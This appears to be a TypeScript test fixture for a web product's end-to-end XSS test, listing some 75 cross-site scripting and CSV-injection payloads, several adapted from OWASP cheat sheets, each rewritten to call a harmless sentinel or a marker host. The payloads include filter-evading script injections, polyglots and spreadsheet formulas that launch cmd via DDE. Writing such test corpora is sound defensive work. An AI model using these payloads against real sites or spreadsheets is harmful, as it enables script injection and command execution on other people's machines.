/**
 * A corpus of cross-site scripting payloads for tests/e2e/xss.test.ts (R-SEC-3), and the
 * spreadsheet-formula strings of CSV injection.
 *
 * Sources and licence:
 * - Most strings were written for this project.
 * - The entries whose `source` is 'OWASP' are adapted from the OWASP XSS Filter Evasion Cheat Sheet
 *   (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), and those
 *   whose `source` is 'OWASP CSV' from the OWASP CSV Injection page (https://owasp.org/www-community/attacks/CSV_Injection);
 *   both are © the OWASP Foundation under the Creative Commons Attribution-ShareAlike 4.0 licence
 *   (CC BY-SA 4.0, https://creativecommons.org/licenses/by-sa/4.0/). They were changed: each calls
 *   this test's sentinel, `__xss(n)`, or `alert(n)`, or asks for a marker address, instead of the
 *   original `alert('XSS')`. As adaptations, those strings are shared under CC BY-SA 4.0 too.
 *
 * How a payload gives itself away when it runs (the test watches for each):
 * - it calls `__xss(n)`: a function the test's init script defines on every page (console hook);
 * - it calls `alert(n)`: a dialog;
 * - it asks for `//xss.invalid/…` (another host) or `/__xss_beacon/n` (the product's host): a request;
 * - HTML forms carry `data-xss="n"`: if the markup became DOM, the element is there.
 * `n` is the payload's number, so a failure names the payload.
 */

export type PayloadKind =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'svg-mathml'
  | 'attribute-breaking'
  | 'template-markdown'
  | 'encoded'
  | 'css'
  | 'formula'
  | 'polyglot';

export interface Payload {
  /** 1-based, unique: what the payload calls `__xss` / `alert` with. */
  n: number;
  kind: PayloadKind;
  source: 'project' | 'OWASP' | 'OWASP CSV';
  text: string;
}

/** The host no request may go to, and the path of the product's own host none may ask for. */
export const BEACON_HOST = 'xss.invalid';
export const BEACON_PATH = '/__xss_beacon/';

type Template = readonly [kind: PayloadKind, source: Payload['source'], text: (n: number) => string];

const templates: readonly Template[] = [
  // <script> in its forms
  ['script', 'project', (n) => `<script>__xss(${n})</script>`],
  ['script', 'OWASP', (n) => `<SCRIPT SRC=//${BEACON_HOST}/${n}.js></SCRIPT>`],
  ['script', 'project', (n) => `<ScRiPt>alert(${n})</sCrIpT>`],
  ['script', 'project', (n) => `</title><script>__xss(${n})</script>`],
  ['script', 'project', (n) => `<scr<script>ipt>__xss(${n})</scr</script>ipt>`],
  ['script', 'OWASP', (n) => `<<SCRIPT>__xss(${n});//\\<</SCRIPT>`],
  ['script', 'project', (n) => `'"--></style></script><script>__xss(${n})</script>`],

  // event handlers
  ['event-handler', 'OWASP', (n) => `<img src=x onerror=__xss(${n}) data-xss=${n}>`],
  ['event-handler', 'project', (n) => `<img src="${BEACON_PATH}${n}" data-xss=${n}>`],
  ['event-handler', 'OWASP', (n) => `<BODY ONLOAD=__xss(${n}) data-xss=${n}>`],
  ['event-handler', 'project', (n) => `<input autofocus onfocus=__xss(${n}) data-xss=${n}>`],
  ['event-handler', 'project', (n) => `<details open ontoggle=__xss(${n}) data-xss=${n}>`],
  ['event-handler', 'project', (n) => `<video><source onerror=__xss(${n}) data-xss=${n}></video>`],
  ['event-handler', 'project', (n) => `<div onmouseover="__xss(${n})" data-xss=${n} style="position:fixed;inset:0">x</div>`],
  ['event-handler', 'project', (n) => `<iframe srcdoc="<script>parent.__xss(${n})</script>" data-xss=${n}></iframe>`],
  ['event-handler', 'project', (n) => `<marquee onstart=__xss(${n}) data-xss=${n}>x</marquee>`],
  ['event-handler', 'project', (n) => `<audio src=x onerror=alert(${n}) data-xss=${n}>`],

  // javascript: and other script URLs
  ['javascript-url', 'project', (n) => `javascript:__xss(${n})`],
  ['javascript-url', 'project', (n) => `<a href="javascript:__xss(${n})" data-xss=${n}>pulsa</a>`],
  ['javascript-url', 'project', (n) => `JaVaScRiPt:alert(${n})`],
  ['javascript-url', 'OWASP', (n) => `<a href="jav&#x09;ascript:__xss(${n})" data-xss=${n}>x</a>`],
  ['javascript-url', 'OWASP', (n) => `<IFRAME SRC="javascript:parent.__xss(${n});" data-xss=${n}></IFRAME>`],
  ['javascript-url', 'project', (n) => `<form action="javascript:__xss(${n})" data-xss=${n}><button>x</button></form>`],
  ['javascript-url', 'OWASP', (n) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:__xss(${n});" data-xss=${n}>`],
  ['javascript-url', 'project', (n) => `<object data="javascript:__xss(${n})" data-xss=${n}></object>`],
  ['javascript-url', 'project', (n) => `<embed src="javascript:__xss(${n})" data-xss=${n}>`],
  ['javascript-url', 'project', (n) => `<base href="//${BEACON_HOST}/${n}/" data-xss=${n}>`],
  ['javascript-url', 'project', (n) => `data:text/html;base64,${btoa(`<script>parent.__xss(${n})</script>`)}`],

  // SVG and MathML
  ['svg-mathml', 'project', (n) => `<svg onload=__xss(${n}) data-xss=${n}>`],
  ['svg-mathml', 'project', (n) => `<svg><script>__xss(${n})</script></svg>`],
  ['svg-mathml', 'project', (n) => `<svg><animate onbegin=__xss(${n}) attributeName=x dur=1s data-xss=${n}>`],
  ['svg-mathml', 'project', (n) => `<svg><a xlink:href="javascript:__xss(${n})" data-xss=${n}><text x=9 y=9>x</text></a></svg>`],
  ['svg-mathml', 'project', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss(${n}) data-xss=${n}>`],
  ['svg-mathml', 'project', (n) => `<math href="javascript:__xss(${n})" data-xss=${n}>x</math>`],

  // breaking out of an attribute or an element's text
  ['attribute-breaking', 'project', (n) => `" onmouseover="__xss(${n})" data-xss="${n}`],
  ['attribute-breaking', 'project', (n) => `' onfocus='__xss(${n})' autofocus data-xss='${n}`],
  ['attribute-breaking', 'OWASP', (n) => `"><img src=x onerror=__xss(${n}) data-xss=${n}>`],
  ['attribute-breaking', 'project', (n) => `'><svg onload=__xss(${n}) data-xss=${n}>`],
  ['attribute-breaking', 'project', (n) => `" autofocus onfocus=alert(${n}) x="`],
  ['attribute-breaking', 'project', (n) => `</textarea><img src=x onerror=__xss(${n}) data-xss=${n}>`],
  ['attribute-breaking', 'project', (n) => `</option></select><img src=x onerror=__xss(${n}) data-xss=${n}>`],

  // template engines and markdown-like marks (the descriptions have *bold*, _italic_ and ~underlined~)
  ['template-markdown', 'project', (n) => `{{constructor.constructor('__xss(${n})')()}}`],
  ['template-markdown', 'project', (n) => `\${__xss(${n})}`],
  ['template-markdown', 'project', (n) => `<%= __xss(${n}) %> #{__xss(${n})}`],
  ['template-markdown', 'project', (n) => `[pulsa](javascript:__xss(${n}))`],
  ['template-markdown', 'project', (n) => `![x](x" onerror="__xss(${n}))`],
  ['template-markdown', 'project', (n) => `*<img src=x onerror=__xss(${n}) data-xss=${n}>*`],
  ['template-markdown', 'project', (n) => `_<svg onload=__xss(${n}) data-xss=${n}>_ y ~<b onclick=__xss(${n})>u</b>~`],
  ['template-markdown', 'project', (n) => `*negrita* _cursiva_ ~subrayado~ <u onmouseover=__xss(${n}) data-xss=${n}>u</u>`],

  // encoded forms (must stay the text typed, never be decoded into markup)
  ['encoded', 'project', (n) => `&lt;img src=x onerror=__xss(${n})&gt;`],
  ['encoded', 'project', (n) => `%3Cscript%3E__xss(${n})%3C%2Fscript%3E`],
  ['encoded', 'project', (n) => `\\u003cimg src=x onerror=__xss(${n})\\u003e`],
  ['encoded', 'OWASP', (n) => `<IMG SRC=x onerror=&#95;&#95;xss&#40;${n}&#41; data-xss=${n}>`],
  ['encoded', 'OWASP', (n) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(${n})" data-xss=${n}>x</a>`],
  ['encoded', 'OWASP', (n) => `<IMG SRC=x onerror="&#x5F;&#x5F;xss(${n})" data-xss=${n}>`],
  ['encoded', 'project', (n) => `＜script＞__xss(${n})＜/script＞`],
  ['encoded', 'OWASP', (n) => `<IMG/SRC=x/onerror=__xss(${n})/data-xss=${n}>`],

  // CSS and style injection
  ['css', 'project', (n) => `<style>@import '//${BEACON_HOST}/${n}.css';</style>`],
  ['css', 'project', (n) => `<div style="background:url(${BEACON_PATH}${n})" data-xss=${n}>x</div>`],
  ['css', 'OWASP', (n) => `<LINK REL="stylesheet" HREF="//${BEACON_HOST}/${n}.css" data-xss=${n}>`],
  ['css', 'project', (n) => `</style><style>*{background:url(//${BEACON_HOST}/${n})}</style>`],
  ['css', 'OWASP', (n) => `<DIV STYLE="width: expression(__xss(${n}));" data-xss=${n}>`],
  ['css', 'project', (n) => `x;background-image:url("${BEACON_PATH}${n}")`],

  // spreadsheet formulas (CSV injection)
  ['formula', 'OWASP CSV', (n) => `=1+${n}`],
  ['formula', 'OWASP CSV', (n) => `=HYPERLINK("http://${BEACON_HOST}/${n}"; "Pulsa aquí")`],
  ['formula', 'OWASP CSV', (n) => `+${n}+cmd|' /C calc'!A0`],
  ['formula', 'OWASP CSV', (n) => `-${n}+cmd|' /C calc'!A0`],
  ['formula', 'OWASP CSV', (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`],
  ['formula', 'OWASP CSV', (n) => `=cmd|' /C notepad'!'A${n}'`],
  ['formula', 'OWASP CSV', (n) => `-${n}+cmd|'/Ccalc'!A0`],
  ['formula', 'project', (n) => `;=1+${n}`],
  ['formula', 'project', (n) => `,=1+${n}`],
  ['formula', 'project', (n) => `"=1+${n}"`],
  ['formula', 'project', (n) => `Título normal\n=1+${n}`],

  // polyglots
  ['polyglot', 'OWASP', (n) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+__xss(${n})//'>`],
  ['polyglot', 'project', (n) => `"'><img src=x onerror=__xss(${n}) data-xss=${n}><!--`],
];

export const PAYLOADS: readonly Payload[] = templates.map(([kind, source, text], index) => ({ n: index + 1, kind, source, text: text(index + 1) }));
